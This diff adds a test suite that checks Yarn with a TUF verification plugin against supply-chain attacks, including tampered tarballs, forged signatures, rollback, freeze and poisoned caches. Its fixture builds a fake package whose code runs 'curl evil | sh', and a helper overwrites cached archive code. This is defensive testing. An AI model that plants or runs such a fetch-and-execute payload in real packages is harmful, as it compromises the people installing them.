@@ -1,0 +1,231 @@
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFile, readdir, writeFile, mkdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { buildPackageTarball } from '@tufpm/registry';
+import { NpmWorld, type CliResult } from '../src/harness/npm-world.js';
+import { YarnProject } from '../src/harness/yarn.js';
+
+// The TUF attack list against real Yarn 4 with the tufpm plugin, one test per attack. Every refused install
+// must exit 1 with a coded Yarn message naming the TUF code, the package and the attack, and leave
+// yarn.lock, tufpm-lock.json, .pnp.cjs, the install state and node_modules exactly as they were.
+
+const evilTarball = (name: string, version: string): Uint8Array =>
+  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
+
+async function refused(project: YarnProject, args: string[], code: RegExp, ...also: RegExp[]): Promise<CliResult> {
+  const before = await project.state();
+  const res = await project.yarn(args);
+  assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
+  assert.match(res.stdout, code);
+  for (const re of also) assert.match(res.stdout, re);
+  assert.doesNotMatch(res.stdout, /Internal Error|\n\s+at /, 'a coded report, not a crash');
+  assert.deepEqual(await project.state(), before, 'nothing touched');
+  return res;
+}
+
+/** A poisoned copy of a Yarn archive: the same zip with its code replaced (archives are stored, c0). */
+function poison(zip: Buffer): Buffer {
+  const at = zip.indexOf('module.exports');
+  assert.ok(at > 0, 'stored archive holds the code in clear');
+  const out = Buffer.from(zip);
+  out.write('process.exit(66);//', at, 'latin1');
+  return out;
+}
+
+async function archiveOf(dir: string, prefix: string): Promise<string> {
+  const file = (await readdir(dir)).find((f) => f.startsWith(prefix) && f.endsWith('.zip'));
+  assert.ok(file, `archive ${prefix}* in ${dir}`);
+  return join(dir, file);
+}
+
+describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
+  let world: NpmWorld;
+  const maintainers = [NpmWorld.maintainer(), NpmWorld.maintainer()];
+
+  before(async () => {
+    world = await NpmWorld.create();
+    await world.publish('right', '1.0.0');
+    await world.publish('left', '1.0.0', { right: '^1.0.0' });
+    await world.claim('guarded', maintainers, 2);
+    await world.publish('guarded', '1.0.0', {}, maintainers.map((m) => m.signer));
+  });
+  after(() => world.close());
+
+  test('rejects a tampered tarball before Yarn unpacks it', async () => {
+    await world.publish('victim', '1.0.0');
+    await world.replaceTarball('victim', '1.0.0', evilTarball('victim', '1.0.0'));
+    const project = await YarnProject.create(world, { left: '^1.0.0', victim: '1.0.0' });
+    await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /package victim@1\.0\.0/, /role unclaimed-/, /attack: tampered tarball/);
+    for (const where of ['cache', 'mirror'] as const) {
+      assert.ok(!(await project.archives(where)).some((f) => f.startsWith('victim-')), `no victim archive in the ${where}`);
+    }
+  });
+
+  test('rejects a package version missing from its role (arbitrary package), also when Yarn picks it as latest', async () => {
+    await world.publish('righty', '1.0.0');
+    await world.publish('lefty', '1.0.0', { righty: '^1.0.0' });
+    await world.publishUnsigned('righty', '1.1.0');
+    const project = await YarnProject.create(world, { lefty: '^1.0.0' });
+    await refused(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package righty@1\.1\.0/, /attack: arbitrary package/);
+  });
+
+  test('rejects a tarball signed by the wrong maintainer key', async () => {
+    const owner = NpmWorld.maintainer();
+    const intruder = NpmWorld.maintainer();
+    await world.claim('solo', [owner], 1);
+    await world.publish('solo', '1.0.0', {}, [owner.signer]);
+    const forged = await world.publishUnsigned('solo', '1.0.1');
+    await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
+    const project = await YarnProject.create(world, { solo: '1.0.1' });
+    await refused(project, ['install'], /TUF_THRESHOLD/, /package solo@1\.0\.1/, /attack: metadata not signed by enough trusted keys/);
+  });
+
+  test('rejects a release signed with one compromised key of a 2-of-2 package', async () => {
+    const forged = await world.publishUnsigned('guarded', '1.0.1');
+    await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
+    const project = await YarnProject.create(world, { guarded: '^1.0.0' });
+    await refused(project, ['install'], /TUF_THRESHOLD/, /package guarded@1\.0\.1/);
+  });
+
+  test('rejects a release signed with a revoked maintainer key', async () => {
+    const [gone, kept] = [NpmWorld.maintainer(), NpmWorld.maintainer()];
+    await world.claim('rotated', [gone, kept], 1);
+    await world.publish('rotated', '1.0.0', {}, [gone.signer]);
+    await world.repo.revokeKey('rotated', gone.key.keyid, { threshold: 1 });
+    const forged = await world.publishUnsigned('rotated', '1.0.1');
+    await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
+    const project = await YarnProject.create(world, { rotated: '1.0.1' });
+    await refused(project, ['install'], /TUF_THRESHOLD/, /package rotated@1\.0\.1/);
+  });
+
+  test('rejects a snapshot rollback on a fresh machine with pins (yarn install --immutable)', async () => {
+    const oldTimestamp = await world.readMetadata('timestamp.json');
+    await world.publish('fresh', '1.0.0');
+    const project = await YarnProject.create(world, { fresh: '^1.0.0', left: '^1.0.0' });
+    const install = await project.yarn(['install']);
+    assert.equal(install.code, 0, install.stdout);
+    const current = await world.readMetadata('timestamp.json');
+    try {
+      await world.writeMetadata('timestamp.json', oldTimestamp);
+      await project.freshMachine();
+      await refused(project, ['install', '--immutable'], /TUF_PIN_ROLLBACK/, /role timestamp/, /attack: rollback/);
+    } finally {
+      await world.writeMetadata('timestamp.json', current);
+    }
+    const again = await project.yarn(['install', '--immutable']);
+    assert.equal(again.code, 0, `the real state installs again\n${again.stdout}`);
+  });
+
+  test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
+    // Bins are chosen by the hash of the target path: publish until the bin of mixed@1.0.1 has two versions.
+    const { role } = await world.publish('mixed', '1.0.1');
+    for (let i = 0; (await world.metadataFiles()).filter((f) => f.endsWith(`.${role}.json`)).length < 2; i++) {
+      await world.publish(`filler${i}`, '1.0.0');
+    }
+    const versions = (await world.metadataFiles())
+      .map((f) => new RegExp(`^(\\d+)\\.${role}\\.json$`).exec(f))
+      .filter((m): m is RegExpExecArray => m !== null)
+      .map((m) => Number(m[1]))
+      .sort((a, b) => a - b);
+    const latest = versions.at(-1)!;
+    const real = await world.readMetadata(`${latest}.${role}.json`);
+    try {
+      await world.writeMetadata(`${latest}.${role}.json`, await world.readMetadata(`${versions.at(-2)!}.${role}.json`));
+      const project = await YarnProject.create(world, { mixed: '1.0.1' });
+      await refused(project, ['install'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package mixed@1\.0\.1/);
+    } finally {
+      await world.writeMetadata(`${latest}.${role}.json`, real);
+    }
+  });
+
+  test('rejects over-length metadata (endless data)', async () => {
+    const real = await world.readMetadata('timestamp.json');
+    try {
+      await world.writeMetadata('timestamp.json', Buffer.concat([real, Buffer.alloc(64 * 1024, 0x20)]));
+      const project = await YarnProject.create(world, { left: '^1.0.0' });
+      await refused(project, ['install'], /TUF_LENGTH/, /attack: endless data/);
+    } finally {
+      await world.writeMetadata('timestamp.json', real);
+    }
+  });
+
+  test('rejects a poisoned Yarn mirror, even for a new project without pins', async () => {
+    const first = await YarnProject.create(world, { left: '^1.0.0' });
+    assert.equal((await first.yarn(['install'])).code, 0);
+    const mirrored = await archiveOf(first.mirrorFolder, 'right-npm-1.0.0-');
+    await writeFile(mirrored, poison(await readFile(mirrored)));
+    // Another project on the same machine: Yarn would copy the poisoned archive from the mirror unchecked.
+    const second = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine });
+    await refused(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror/);
+    // Control: plain Yarn on that machine installs the poisoned archive and runs its code.
+    const plain = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine, plugin: false });
+    assert.equal((await plain.yarn(['install'])).code, 0);
+    assert.equal((await plain.yarn(['node', '-e', 'require("right")'])).code, 66, 'the poisoned code ran without the plugin');
+  });
+
+  test('rejects a poisoned Yarn cache whose yarn.lock checksum was edited to match', async () => {
+    const project = await YarnProject.create(world, { left: '^1.0.0' });
+    assert.equal((await project.yarn(['install'])).code, 0);
+    const cached = await archiveOf(project.cacheFolder, 'right-npm-1.0.0-');
+    const evil = poison(await readFile(cached));
+    const oldSum = await YarnProject.checksumOf(cached);
+    await writeFile(cached, evil);
+    const newSum = await YarnProject.checksumOf(cached);
+    // Yarn names cache files after the checksum: the attacker writes the archive under its new name.
+    await writeFile(cached.replace(oldSum.slice(5, 15), newSum.slice(5, 15)), evil);
+    const lock = (await project.read('yarn.lock'))!;
+    assert.ok(lock.includes(oldSum));
+    await project.write('yarn.lock', lock.replace(oldSum, newSum));
+    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
+  });
+
+  test('rejects an edited yarn.lock checksum, and yarn tuf verify reports it', async () => {
+    const project = await YarnProject.create(world, { left: '^1.0.0' });
+    assert.equal((await project.yarn(['install'])).code, 0);
+    const lock = (await project.read('yarn.lock'))!;
+    const edited = lock.replace(/(resolution: "right@npm:1\.0\.0"\n {2}checksum: 10c0\/)[0-9a-f]{8}/, '$1deadbeef');
+    assert.notEqual(edited, lock);
+    await project.write('yarn.lock', edited);
+    await refused(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror, or an edited yarn\.lock checksum/);
+    const verify = await project.yarn(['tuf', 'verify']);
+    assert.equal(verify.code, 1, verify.stdout);
+    assert.match(verify.stdout, /TUF_CHECKSUM_BINDING/);
+  });
+
+  test('refuses git, file and remote-URL dependencies unless unsafeTufAllowNonRegistry allows them', async () => {
+    const local = await world.tempDir('local-');
+    await mkdir(local, { recursive: true });
+    await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
+    const project = await YarnProject.create(world, { local: `file:${local}`, right: '1.0.0' });
+    await refused(project, ['install'], /TUF_UNSAFE_SOURCE/, /package local/, /attack: unverifiable source/);
+    await project.writeRc({ unsafeTufAllowNonRegistry: ['local'] });
+    const allowed = await project.yarn(['install']);
+    assert.equal(allowed.code, 0, allowed.stdout);
+  });
+
+  test('tufMode: warn reports a tampered tarball but does not move the pins', async () => {
+    await world.publish('warned', '1.0.0');
+    await world.replaceTarball('warned', '1.0.0', evilTarball('warned', '1.0.0'));
+    const project = await YarnProject.create(world, { warned: '1.0.0' }, { rc: { tufMode: 'warn' } });
+    const res = await project.yarn(['install']);
+    assert.equal(res.code, 0, res.stdout);
+    assert.match(res.stdout, /YN0000: .*\(tufMode: warn\) TUF_TARBALL_MISMATCH/);
+    assert.equal(await project.read('tufpm-lock.json'), undefined, 'no pins from a failed verification');
+  });
+});
+
+describe('Yarn with the tufpm plugin refuses an expired timestamp (freeze)', () => {
+  let world: NpmWorld;
+  before(async () => {
+    // Everything signed ten days ago with default expiries: the timestamp (1 day) has expired.
+    world = await NpmWorld.create({ now: new Date(Date.now() - 10 * 24 * 3600 * 1000) });
+    await world.publish('left', '1.0.0');
+  });
+  after(() => world.close());
+
+  test('rejects an expired timestamp (freeze attack)', async () => {
+    const project = await YarnProject.create(world, { left: '^1.0.0' });
+    await refused(project, ['install'], /TUF_EXPIRED/, /attack: freeze/);
+  });
+});
